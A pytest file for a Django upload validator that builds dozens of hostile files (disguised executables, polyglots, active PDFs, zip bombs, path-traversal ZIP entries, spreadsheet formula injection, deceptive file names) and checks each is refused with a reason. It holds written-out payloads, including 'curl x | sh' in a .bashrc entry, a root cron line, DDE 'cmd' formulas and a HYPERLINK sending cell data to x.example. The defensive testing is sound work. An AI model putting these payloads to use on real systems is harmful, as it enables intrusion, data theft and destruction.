"""Hostile files, each built here, each refused for its own reason with a message the person
can act on: disguised types, programs, web pages, polyglots, broken and oversized images, PDFs
that run something, encrypted or bombing or macro-carrying packages, traversal in ZIP entries,
text that is not UTF-8 or that a spreadsheet would run, and names that hide what they are."""

import contextlib
import zlib

import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from puentes.documents.checks import FileRefused, check_upload, refusals
from puentes.documents.checks.packages import MAX_UNPACKED

from . import samples

MAX = 10 * 1024 * 1024
PDF = samples.tiny_pdf("Informe", ["Informe año 2025"])
PNG = samples.png()
JPEG = samples.jpeg()
DOCX = samples.ooxml("docx")
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
VBA = ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64)


def pdf_with(dictionary: bytes) -> bytes:
    """The tiny PDF with one more object in it (after the others, before the xref)."""
    head, _, tail = PDF.partition(b"xref\n")
    return head + b"7 0 obj\n" + dictionary + b"\nendobj\n" + b"xref\n" + tail


def bomb() -> bytes:
    """A DOCX with a 20 MB part of zeros that packs to about 20 kB."""
    return samples.ooxml("docx", extra=[("word/media/zeros.bin", b"\x00" * (20 * 1024 * 1024))])


HOSTILE = {
    # case: (file name, content, reason)
    "empty file": ("Informe.pdf", b"", refusals.EmptyFile),
    "web page called .pdf": ("Informe.pdf", HTML, refusals.Markup),
    "web page called .txt": ("notas.txt", b"  \n" + HTML, refusals.Markup),
    "script tag in text": (
        "notas.txt",
        b"Hola\n<script src=//x.example/a.js></script>",
        refusals.Markup,
    ),
    "SVG with a script": (
        "mapa.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        refusals.Markup,
    ),
    "SVG called .png": (
        "mapa.png",
        b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        refusals.Markup,
    ),
    "XML file": ("datos.xml", b'<?xml version="1.0"?><datos><a>1</a></datos>', refusals.Markup),
    "XML with BOM called .csv": (
        "datos.csv",
        b"\xef\xbb\xbf<?xml version='1.0'?><x/>",
        refusals.Markup,
    ),
    "Windows program called .pdf": (
        "Informe.pdf",
        b"MZ\x90\x00\x03" + b"\x00" * 200,
        refusals.Program,
    ),
    "Linux program called .txt": (
        "notas.txt",
        b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        refusals.Program,
    ),
    "macOS program": (
        "app.docx",
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
        refusals.Program,
    ),
    "shell script called .txt": ("leeme.txt", b"#!/bin/sh\nrm -rf ~\n", refusals.Program),
    "HTML before %PDF (polyglot)": (
        "Informe.pdf",
        b"<html><script>x()</script>" + PDF,
        refusals.Disguised,
    ),
    "junk before %PDF (polyglot)": ("Informe.pdf", b"\x00\x01GIF89a" + PDF, refusals.Disguised),
    "image called .pdf": ("Informe.pdf", PNG, refusals.WrongEnding),
    "JPEG called .png": ("foto.png", JPEG, refusals.WrongEnding),
    "PDF called .exe.pdf.exe": ("Informe.pdf.exe", PDF, refusals.WrongEnding),
    "PDF without an ending": ("Informe", PDF, refusals.WrongEnding),
    "PNG with a ZIP after it": ("mapa.png", PNG + DOCX, refusals.Disguised),
    "PNG with a damaged checksum": ("mapa.png", PNG[:-5] + b"\x00" + PNG[-4:], refusals.Damaged),
    "PNG cut short": ("mapa.png", PNG[:40], refusals.Damaged),
    "PNG of 50 000 × 50 000 pixels": (
        "mapa.png",
        samples.png(50_000, 50_000),
        refusals.ImageTooLarge,
    ),
    "JPEG with a web page after it": ("foto.jpg", JPEG + HTML, refusals.Disguised),
    "JPEG cut short": ("foto.jpg", JPEG[:-2], refusals.Damaged),
    "PDF that runs JavaScript": (
        "Informe.pdf",
        pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"),
        refusals.ActivePdf,
    ),
    "PDF hiding JavaScript in #-escapes": (
        "Informe.pdf",
        pdf_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        refusals.ActivePdf,
    ),
    "PDF that launches a program": (
        "Informe.pdf",
        pdf_with(b"<< /S /Launch /F (cmd.exe) >>"),
        refusals.ActivePdf,
    ),
    "PDF with an attached file": (
        "Informe.pdf",
        pdf_with(b"<< /Type /EmbeddedFile /Length 0 >>"),
        refusals.ActivePdf,
    ),
    "PDF cut short": ("Informe.pdf", PDF[:-40], refusals.Damaged),
    "password-protected DOCX": ("Acta.docx", samples.with_zip_flag(DOCX, 0x1), refusals.Encrypted),
    "encrypted ODT": (
        "Acta.odt",
        samples.odf("odt", manifest_extra="<manifest:encryption-data/>"),
        refusals.Encrypted,
    ),
    "zip bomb (ratio)": ("Acta.docx", bomb(), refusals.Bomb),
    "zip bomb (stated size)": (
        "Acta.docx",
        samples.with_stated_size(DOCX, MAX_UNPACKED // 2),
        refusals.Bomb,
    ),
    "DOCX with vbaProject.bin": ("Acta.docx", samples.ooxml("docx", extra=[VBA]), refusals.Macros),
    "DOCM renamed to .docx": (
        "Acta.docx",
        samples.ooxml("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        refusals.Macros,
    ),
    "XLSX with ActiveX": (
        "Libro.xlsx",
        samples.ooxml("xlsx", extra=[("xl/activeX/activeX1.bin", b"\x00" * 16)]),
        refusals.Macros,
    ),
    "ODS with Basic macros": (
        "Libro.ods",
        samples.odf("ods", extra=[("Basic/Standard/Module1.xml", "<script/>")]),
        refusals.Macros,
    ),
    "ZIP entry climbing out (../)": (
        "Acta.docx",
        samples.ooxml("docx", extra=[("../../.bashrc", "curl x | sh")]),
        refusals.UnsafeEntry,
    ),
    "ZIP entry with an absolute path": (
        "Acta.docx",
        samples.ooxml("docx", extra=[("/etc/cron.d/x", "* * * * * root sh")]),
        refusals.UnsafeEntry,
    ),
    "ZIP entry with a Windows path": (
        "Acta.docx",
        samples.ooxml("docx", extra=[("..\\..\\start.bat", "del *")]),
        refusals.UnsafeEntry,
    ),
    "ZIP entry that is a link": (
        "Acta.docx",
        samples.ooxml("docx", extra=[("word/link", (b"/etc/passwd", 0o120777))]),
        refusals.UnsafeEntry,
    ),
    "ZIP with a repeated entry": (
        "Acta.docx",
        samples.zip_of(
            [
                ("[Content_Types].xml", "<Types/>"),
                ("[Content_Types].xml", "<Types/>"),
                ("_rels/.rels", "<Relationships/>"),
            ]
        ),
        refusals.UnsafeEntry,
    ),
    "entity expansion in [Content_Types].xml": (
        "Acta.docx",
        samples.ooxml(
            "docx",
            content_types_extra='<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        ),
        refusals.UnsafeEntry,
    ),
    "plain ZIP archive called .docx": (
        "Acta.docx",
        samples.zip_of([("Informe.pdf", PDF), ("foto.jpg", JPEG)]),
        refusals.Archive,
    ),
    "ODT whose mimetype is not first": (
        "Acta.odt",
        samples.odf("odt", mimetype_first=False),
        refusals.Archive,
    ),
    "ZIP cut short": ("Acta.docx", DOCX[:-30], refusals.Damaged),
    "GIF image": ("animacion.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", refusals.UnknownType),
    "binary with zero bytes called .txt": (
        "datos.txt",
        b"\x00\x01\x02\x03" * 50,
        refusals.UnknownType,
    ),
    "CSV saved as Windows-1252": (
        "lista.csv",
        "Nombre;Año\nMaría;2025\n".encode("cp1252"),
        refusals.NotUtf8,
    ),
    "text saved as UTF-16": ("notas.txt", "Hola año".encode("utf-16"), refusals.NotUtf8),
    "text with terminal escape codes": (
        "notas.txt",
        b"Hola\x1b[2J\x1b]0;pwned\x07\n",
        refusals.ControlCharacters,
    ),
    "CSV with a DDE formula": (
        "lista.csv",
        b"Nombre;Monto\nMar\xc3\xada;-2+3+cmd|' /C calc'!A0\n",
        refusals.CsvFormula,
    ),
    "CSV with a HYPERLINK formula": (
        "lista.csv",
        b'Nombre,Enlace\nPedro,"=HYPERLINK(""http://x.example/?""&A1,""Ver"")"\n',
        refusals.CsvFormula,
    ),
    "CSV with an @ function": (
        "lista.csv",
        b"a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n",
        refusals.CsvFormula,
    ),
    "CSV with an unclosed quote": ("lista.csv", b'a,b\n"1,2\n', refusals.CsvUnreadable),
    "name with a folder path": ("../../etc/passwd.txt", b"root\n", refusals.BadName),
    "name with a Windows folder path": ("C:\\Users\\x\\Informe.pdf", PDF, refusals.BadName),
    "name with a right-to-left override": ("Informe\u202efdp.exe", PDF, refusals.BadName),
    "name with a control character": ("Informe\x00.pdf", PDF, refusals.BadName),
    "name with a line break": ("Informe\n.pdf", PDF, refusals.BadName),
    "hidden name": (".htaccess", b"Options +ExecCGI\n", refusals.BadName),
    "no name at all": ("  ", PDF, refusals.BadName),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_hostile_file_is_refused_for_its_reason(case):
    name, content, reason = HOSTILE[case]

    with pytest.raises(FileRefused) as refused:
        check_upload(name=name, chunks=[content], max_bytes=MAX)

    assert type(refused.value) is reason
    assert str(refused.value.message).strip()


def test_there_are_at_least_twenty_hostile_files():
    assert len(HOSTILE) >= 20


def test_a_file_over_the_limit_is_refused_without_reading_it_all():
    read = []

    def chunks():
        for _ in range(100):
            read.append(1)
            yield b"a" * 1024

    with pytest.raises(refusals.TooLarge) as refused:
        check_upload(name="a.txt", chunks=chunks(), max_bytes=10 * 1024)

    assert len(read) == 11
    assert "10,0" in str(refused.value.message) or "10.0" in str(refused.value.message)


def test_a_refusal_names_what_to_do():
    with translation.override("en"), pytest.raises(refusals.WrongEnding) as refused:
        check_upload(name="Informe.pdf", chunks=[PNG], max_bytes=MAX)

    message = str(refused.value.message)
    assert "“.pdf”" in message
    assert ".png" in message


def test_a_zip_bomb_is_refused_from_its_directory_before_anything_is_unpacked():
    # The stated sizes are refused at once; were they read, 50 MB of zeros would follow.
    package = samples.with_stated_size(DOCX, MAX_UNPACKED // 2)

    with pytest.raises(refusals.Bomb):
        check_upload(name="Acta.docx", chunks=[package], max_bytes=MAX)


def test_an_entry_unpacking_to_more_than_it_states_is_damaged():
    # The central directory says 100 bytes; the entry holds 5,000: unpacking stops at 100
    # and the checksum does not match.
    package = bytearray(samples.ooxml("docx", extra=[("word/big.xml", "x" * 5000)]))
    central = package.rfind(b"PK\x01\x02")  # the last entry is word/big.xml
    assert package[central + 46 : central + 58] == b"word/big.xml"
    package[central + 24 : central + 28] = (100).to_bytes(4, "little")

    with pytest.raises(refusals.Damaged):
        check_upload(name="Acta.docx", chunks=[bytes(package)], max_bytes=MAX)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048), st.sampled_from(["a.pdf", "a.png", "a.txt", "a.csv", "a.docx"]))
def test_any_bytes_are_either_accepted_or_refused_with_a_reason(content, name):
    try:
        check_upload(name=name, chunks=[content], max_bytes=MAX)
    except FileRefused as refusal:
        assert str(refusal.message)


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=0, max_value=len(DOCX) - 1), st.integers(0, 255))
def test_a_document_with_any_one_byte_changed_never_breaks_the_check(position, value):
    changed = bytearray(DOCX)
    changed[position] = value
    with contextlib.suppress(FileRefused):
        check_upload(name="Acta.docx", chunks=[bytes(changed)], max_bytes=MAX)


def test_compressed_xml_in_a_document_is_not_a_bomb():
    # Office XML packs well (10–20×); a large, ordinary document must pass.
    rows = "".join(f"<w:p><w:r><w:t>Fila {n} del informe</w:t></w:r></w:p>" for n in range(60_000))
    package = samples.ooxml("docx", extra=[("word/styles.xml", rows)])
    assert len(zlib.compress(rows.encode())) < len(rows) // 10

    assert check_upload(name="Informe.docx", chunks=[package], max_bytes=MAX).size == len(package)
